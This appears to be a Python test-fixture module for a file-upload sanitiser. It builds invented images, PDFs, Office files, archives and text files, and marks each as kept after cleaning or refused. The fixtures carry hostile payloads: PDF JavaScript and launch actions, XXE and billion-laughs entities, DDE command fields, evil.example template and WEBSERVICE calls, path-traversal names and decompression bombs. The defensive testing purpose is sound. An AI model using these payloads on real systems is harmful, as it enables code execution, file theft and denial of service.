"""Files made to harm, each with what must become of it: refused, or kept without what it carried. All are invented here."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image, PngImagePlugin

CANARY = b"CANARY-HOME-ADDRESS"
TEXT = CANARY.decode()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
P = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


# Pictures


def picture(kind="JPEG", size=(60, 40), **options):
    made = io.BytesIO()
    Image.effect_noise(size, 40).convert("RGB").save(made, kind, **options)
    return made.getvalue()


def with_exif():
    exif = Image.Exif()
    exif[0x010E] = TEXT
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (51.0, 23.0, 5.0)
    return exif


def png_with_texts(compressed=False):
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", TEXT, zip=compressed)
    notes.add_itxt("XML:com.adobe.xmp", f"<x>{TEXT}</x>")
    return picture("PNG", pnginfo=notes)


def png_chunk(name, content):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png_that_says(width, height, rows=b""):
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def png_with_a_bomb_of_text():
    whole = picture("PNG")
    bomb = b"Comment\0\0" + zlib.compress(b"A" * 100_000_000, 9)
    return whole[:33] + png_chunk(b"zTXt", bomb) + whole[33:]


def pictures():
    jpeg, png = picture(), picture("PNG")
    page = b"<html><script>alert('" + CANARY + b"')</script></html>"
    yield "gps.jpg", picture(exif=with_exif()), "jpg"
    yield "gps.png", picture("PNG", exif=with_exif()), "png"
    yield "comment.jpg", picture(comment=CANARY), "jpg"
    yield "xmp.jpg", picture(xmp=b"<x:xmpmeta>" + CANARY + b"</x:xmpmeta>"), "jpg"
    yield "profile.jpg", picture(icc_profile=CANARY * 20), "jpg"
    yield "texts.png", png_with_texts(), "png"
    yield "packed-texts.png", png_with_texts(compressed=True), "png"
    yield "page-after.png", png + page, "png"
    yield "page-after.jpg", jpeg + page, "jpg"
    yield "archive-after.jpg", jpeg + package({"a.html": page}), "jpg"
    yield "page-in-chunk.png", png[:33] + png_chunk(b"teXt", page) + png[33:], "png"
    yield "page-in-comment.jpg", picture(comment=page), "jpg"
    yield "named-as-page.html", png + page, "png"
    yield "turned\u202egnp.exe", png, "png"
    yield "../../etc/passwd.png", png, "png"
    yield "fifty-thousand.png", png_that_says(50_000, 50_000), None
    yield "overlarge.png", png_that_says(8_000, 6_000, b"\0" * 1000), None
    yield "text-bomb.png", png_with_a_bomb_of_text(), None
    yield "pixel-bomb.png", png_that_says(65_535, 65_535, b"\0" * 50_000_000), None
    yield "cut-short.png", png[: len(png) // 2], None
    yield "cut-short.jpg", jpeg[: len(jpeg) // 3], None
    yield "only-a-header.jpg", b"\xff\xd8\xff\xe0", None
    yield "only-a-header.png", b"\x89PNG\r\n\x1a\n", None
    yield "wrong-sum.png", png.replace(b"IHDR", b"IHDX"), None
    yield "moving.gif", picture("GIF"), None
    yield "old.bmp", picture("BMP"), None
    yield "raw.tiff", picture("TIFF"), None
    yield "drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", None
    yield "drawing.png", b"<?xml version='1.0'?><svg onload='alert(1)'/>", None


# PDF


def pdf(change=lambda made: None, **options):
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    change(made)
    made.save(out, **options)
    return out.getvalue()


def script(text="app.alert('" + TEXT + "')"):
    return Dictionary(S=Name.JavaScript, JS=String(text))


def noted(made):
    made.docinfo["/Author"] = TEXT
    with made.open_metadata() as notes:
        notes["dc:creator"] = [TEXT]


def attached(made):
    made.attachments["a.txt"] = pikepdf.AttachedFileSpec(made, CANARY, filename="a.txt")


def form(made):
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("a"),
            Rect=[0, 0, 9, 9],
            AA=Dictionary(K=script()),
        )
    )
    made.pages[0].Annots = Array([field])
    made.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=Stream(made, b"<xdp>" + CANARY + b"</xdp>"))


def annotated(subtype, **keys):
    def change(made):
        note = Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=[0, 0, 9, 9], **keys)
        made.pages[0].Annots = Array([made.make_indirect(note)])

    return change


def file_annotation(made):
    stream = made.make_indirect(Stream(made, CANARY, Type=Name.EmbeddedFile))
    annotated("FileAttachment", FS=Dictionary(Type=Name.Filespec, F=String("a"), EF=Dictionary(F=stream)))(made)


def image(made, content=None, **keys):
    stream = Stream(made, content or picture(exif=with_exif()))
    stream.Type, stream.Subtype, stream.Filter = Name.XObject, Name.Image, Name.DCTDecode
    stream.Width, stream.Height, stream.BitsPerComponent, stream.ColorSpace = 60, 40, 8, Name.DeviceRGB
    for key, value in keys.items():
        stream[f"/{key}"] = value
    made.pages[0].Resources = Dictionary(XObject=Dictionary(I=made.make_indirect(stream)))
    return stream


def doubly_packed(made):
    stream = image(made)
    stream.write(zlib.compress(picture(exif=with_exif())), filter=Array([Name.FlateDecode, Name.DCTDecode]))


def layered(made):
    layer = made.make_indirect(Dictionary(Type=Name.OCG, Name=String("layer")))
    made.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer])))


def nested(made):
    deep = Dictionary(A=script())
    for _ in range(200):
        deep = Dictionary(K=deep)
    made.pages[0].obj["/Deep"] = deep


def on_page(**keys):
    def change(made):
        for key, value in keys.items():
            made.pages[0].obj[f"/{key}"] = value

    return change


def on_root(**keys):
    def change(made):
        for key, value in keys.items():
            made.Root[f"/{key}"] = value

    return change


def grown(made_bytes):
    """A second version appended to a first, which still holds what the second took out."""
    first = pdf(lambda made: made.docinfo.__setitem__("/Author", TEXT))
    return first + made_bytes


def pdfs():
    yield "notes.pdf", pdf(noted), "pdf"
    yield "open-script.pdf", pdf(on_root(OpenAction=script())), "pdf"
    yield (
        "named-script.pdf",
        pdf(on_root(Names=Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()]))))),
        "pdf",
    )
    yield "page-script.pdf", pdf(on_page(AA=Dictionary(O=script()))), "pdf"
    yield "launch.pdf", pdf(annotated("Link", A=Dictionary(S=Name.Launch, F=String(TEXT)))), "pdf"
    yield "script-link.pdf", pdf(annotated("Link", A=script())), "pdf"
    yield (
        "next-script.pdf",
        pdf(annotated("Link", A=Dictionary(S=Name.GoTo, D=String("x"), Next=Array([script()])))),
        "pdf",
    )
    yield "file-link.pdf", pdf(annotated("Link", A=Dictionary(S=Name.URI, URI=String("file:///" + TEXT)))), "pdf"
    yield (
        "script-address.pdf",
        pdf(annotated("Link", A=Dictionary(S=Name.URI, URI=String("javascript:" + TEXT)))),
        "pdf",
    )
    yield "other-file.pdf", pdf(annotated("Link", A=Dictionary(S=Name.GoToR, F=String(TEXT)))), "pdf"
    yield "comment-author.pdf", pdf(annotated("Text", T=String(TEXT), Contents=String("seen"))), "pdf"
    yield "film.pdf", pdf(annotated("RichMedia", RichMediaContent=Dictionary(X=String(TEXT)))), "pdf"
    yield "attachment.pdf", pdf(attached), "pdf"
    yield "attachment-on-page.pdf", pdf(file_annotation), "pdf"
    yield "form.pdf", pdf(form), "pdf"
    yield "page-notes.pdf", pdf(on_page(PieceInfo=Dictionary(X=String(TEXT)), LastModified=String(TEXT))), "pdf"
    yield "photograph.pdf", pdf(image), "pdf"
    yield "photograph-packed-twice.pdf", pdf(doubly_packed), "pdf"
    yield "layers.pdf", pdf(layered), "pdf"
    yield "nested.pdf", pdf(nested), "pdf"
    yield "two-versions.pdf", grown(pdf()), "pdf"
    yield "archive-after.pdf", pdf() + package({"a.html": CANARY}), "pdf"
    yield "vast-picture.pdf", pdf(lambda made: image(made, Width=50_000, Height=50_000)), None
    yield "password.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="u")), None
    yield "locked.pdf", pdf(encryption=pikepdf.Encryption(owner="o", user="")), None
    yield "cut-short.pdf", pdf(noted)[:60], None
    yield "no-pages.pdf", pdf(lambda made: made.pages.__delitem__(0)), None
    yield "page-first.pdf", b"<html>" + pdf(), None
    yield "only-a-header.pdf", b"%PDF-1.7\n", None


# Word, Excel and archives


def package(parts, compression=zipfile.ZIP_DEFLATED):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as out:
        for name, content in parts.items():
            out.writestr(name, content)
    return made.getvalue()


def types(main, part, extra=""):
    kind = "wordprocessingml.document" if main == "docx" else "spreadsheetml.sheet"
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{part}" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/>{extra}</Types>'
    )


def relations(*lines):
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}"{" TargetMode=" + chr(34) + "External" + chr(34) if outside else ""}/>'
        for number, (kind, target, outside) in enumerate(lines)
    )
    return f'<Relationships xmlns="{P}">{inside}</Relationships>'


def word(body="<w:p><w:r><w:t>Seen at six</w:t></w:r></w:p>", links=(), before="", **parts):
    return package(
        {
            "[Content_Types].xml": types("docx", "word/document.xml"),
            "_rels/.rels": relations(
                ("officeDocument", "word/document.xml", False), ("core-properties", "docProps/core.xml", False)
            ),
            "docProps/core.xml": f"<c>{TEXT}</c>",
            "word/document.xml": f'{before}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>',
            "word/_rels/document.xml.rels": relations(*links),
            **parts,
        }
    )


def sheet(data='<row r="1"><c r="A1"><v>1</v></c></row>', state="", cols="", book="", links=(), **parts):
    return package(
        {
            "[Content_Types].xml": types("xlsx", "xl/workbook.xml"),
            "_rels/.rels": relations(("officeDocument", "xl/workbook.xml", False)),
            "xl/workbook.xml": f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets><sheet name="A" sheetId="1" r:id="r0"{state}/></sheets>{book}</workbook>',
            "xl/_rels/workbook.xml.rels": relations(("worksheet", "worksheets/sheet1.xml", False), *links),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{S}" xmlns:r="{R}">{cols}<sheetData>{data}</sheetData></worksheet>',
            "docProps/app.xml": f"<p>{TEXT}</p>",
            **parts,
        }
    )


LAUGHS = (
    '<!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{("&" + chr(97 + n) + ";") * 10}">' for n in range(12))
    + "]>"
)
STRANGER = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


def field(text):
    return (
        f"<w:p><w:r><w:instrText>{text[:3]}</w:instrText></w:r><w:r><w:instrText>{text[3:]}</w:instrText></w:r></w:p>"
    )


def shared_name():
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as out:
        out.writestr("[Content_Types].xml", types("docx", "word/document.xml"))
        out.writestr("word/document.xml", "<a/>")
        out.writestr("WORD/document.xml", "<b/>")
    return made.getvalue()


def locked_archive():
    whole = bytearray(word())
    at = 0
    while (at := whole.find(b"PK\x01\x02", at)) >= 0:
        whole[at + 8] |= 1
        at += 4
    return bytes(whole)


def office():
    changed = f'<w:ins w:author="{TEXT}" w:date="2026-01-01T00:00:00Z" w:id="1"><w:r><w:t>new</w:t></w:r></w:ins>'
    comments = f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{TEXT}" w:initials="{TEXT}"><w:p/></w:comment></w:comments>'
    notes = f'<comments xmlns="{S}"><authors><author>{TEXT}</author></authors><commentList/></comments>'
    yield "notes.docx", word(), "docx"
    yield (
        "custom.docx",
        word(**{"customXml/item1.xml": f"<a>{TEXT}</a>", "docProps/custom.xml": f"<a>{TEXT}</a>"}),
        "docx",
    )
    yield "changes.docx", word(changed), "docx"
    yield "comments.docx", word(links=[("comments", "comments.xml", False)], **{"word/comments.xml": comments}), "docx"
    yield "people.docx", word(**{"word/people.xml": f"<p>{TEXT}</p>"}), "docx"
    yield "template.docx", word(links=[("attachedTemplate", "https://evil.example/" + TEXT, True)]), "docx"
    yield "script-link.docx", word(links=[("hyperlink", "javascript:" + TEXT, True)]), "docx"
    yield "share-link.docx", word(links=[("hyperlink", "file://server/" + TEXT, True)]), "docx"
    yield "photograph.docx", word(**{"word/media/image1.jpg": picture(exif=with_exif())}), "docx"
    yield "hidden-text.docx", word("<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>x</w:t></w:r></w:p>"), "docx"
    yield "outside-picture.docx", word(links=[("image", "https://evil.example/a.png", True)]), None
    yield "outside-frame.docx", word(links=[("frame", "https://evil.example/", True)]), None
    yield "dde.docx", word(field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), None
    yield "include.docx", word(field('INCLUDEPICTURE "https://evil.example/x"')), None
    yield "macros.docx", word(**{"word/vbaProject.bin": CANARY}), None
    yield "embedded.docx", word(**{"word/embeddings/oleObject1.bin": CANARY}), None
    yield "control.docx", word(**{"word/activeX/activeX1.xml": "<a/>"}), None
    yield "drawing.docx", word(**{"word/media/image1.emf": CANARY}), None
    yield "chunk.docx", word(**{"word/afchunk.mht": CANARY}), None
    yield "unknown-part.docx", word(**{"word/strange.dat": CANARY}), None
    yield "laughs.docx", word(before=LAUGHS, body="<w:p>&k;</w:p>"), None
    yield "stranger.docx", word(before=STRANGER, body="<w:p>&x;</w:p>"), None
    yield "picture-bomb.docx", word(**{"word/media/image1.png": png_that_says(50_000, 50_000)}), None
    yield "path.docx", word(**{"../../evil.xml": CANARY}), None
    yield "one-name-twice.docx", shared_name(), None
    yield "locked.docx", locked_archive(), None
    yield "cut-short.docx", word()[:200], None
    yield "broken-xml.docx", word("<w:p>"), None
    yield "zip-bomb.docx", word(**{"word/styles.xml": b"<a>" + b" " * 90_000_000 + b"</a>"}), None
    yield "many-parts.docx", word(**{f"word/header{number}.xml": "<a/>" for number in range(2_500)}), None
    yield "deep.docx", word("<w:p>" * 20_000 + "</w:p>" * 20_000), None
    yield (
        "macro-kind.docm",
        word(
            **{
                "[Content_Types].xml": types("docx", "word/document.xml").replace(
                    "document.main", "document.macroEnabled.main"
                )
            }
        ),
        None,
    )
    yield "notes.xlsx", sheet(), "xlsx"
    yield "hidden-sheet.xlsx", sheet(state=' state="veryHidden"'), "xlsx"
    yield (
        "hidden-rows.xlsx",
        sheet(
            '<row r="1" hidden="1"><c r="A1"><v>1</v></c></row>', cols='<cols><col min="1" max="2" hidden="1"/></cols>'
        ),
        "xlsx",
    )
    yield "comments.xlsx", sheet(**{"xl/comments1.xml": notes}), "xlsx"
    yield "printer.xlsx", sheet(**{"xl/printerSettings/printerSettings1.bin": CANARY}), "xlsx"
    yield "threads.xlsx", sheet(**{"xl/persons/person.xml": f"<p>{TEXT}</p>"}), "xlsx"
    yield (
        "webservice.xlsx",
        sheet('<row r="1"><c r="A1"><f>WEBSERVICE("https://evil.example/"&amp;B1)</f></c></row>'),
        None,
    )
    yield "dde.xlsx", sheet('<row r="1"><c r="A1"><f>cmd|\'/C calc\'!A0</f></c></row>'), None
    yield "macros.xlsx", sheet(**{"xl/vbaProject.bin": CANARY}), None
    yield "outside.xlsx", sheet(**{"xl/externalLinks/externalLink1.xml": "<a/>"}), None
    yield "pivot.xlsx", sheet(**{"xl/pivotCache/pivotCacheRecords1.xml": f"<a>{TEXT}</a>"}), None
    yield "connection.xlsx", sheet(**{"xl/connections.xml": "<a/>"}), None
    yield "embedded.xlsx", sheet(**{"xl/embeddings/a.xlsx": CANARY}), None
    yield "laughs.xlsx", sheet(**{"xl/sharedStrings.xml": LAUGHS + f'<sst xmlns="{S}"><si><t>&k;</t></si></sst>'}), None
    yield "archive.zip", package({"a.html": CANARY}), None
    yield "program.jar", package({"META-INF/MANIFEST.MF": "Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}), None
    yield "letter.odt", package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<a/>"}), None
    yield "zip-of-zips.zip", package({f"{n}.zip": package({"0": b"\0" * 1_000_000}) for n in range(50)}), None
    yield "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, None


# Text and what only pretends


def texts():
    eicar = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    yield "eicar.txt", eicar, "txt"
    yield "formula.csv", 'a,b\n=HYPERLINK("https://evil.example"),\t=1\n＝1+1,@SUM(1)\n'.encode(), "csv"
    yield "utf16.txt", "Seen at six".encode("utf-16"), "txt"
    yield "page.txt", b"  <!DOCTYPE html><html><script>alert(1)</script>", None
    yield "page.csv", b"a,b\n<script>alert(1)</script>,c", None
    yield "page-in-utf16.txt", "<html><script>x</script>".encode("utf-16"), None
    yield "entities.txt", LAUGHS.encode(), None
    yield "program.exe", b"MZ\x90\0" + b"\0" * 200, None
    yield "program.png", b"\x7fELF" + b"\0" * 200, None
    yield "nothing-but-nulls.txt", b"\0" * 1000, None
    yield "unclosed.csv", b'a,b\n"never closed,c\n' * 1, None
    yield "escape.txt", b"\x1b]0;owned\x07", None
    yield "empty.txt", b"", None
    yield "random.pdf", bytes(range(256)) * 40, None


def every_file():
    """Name, content, and the kind it is kept as, or None where it must be refused."""
    yield from pictures()
    yield from pdfs()
    yield from office()
    yield from texts()
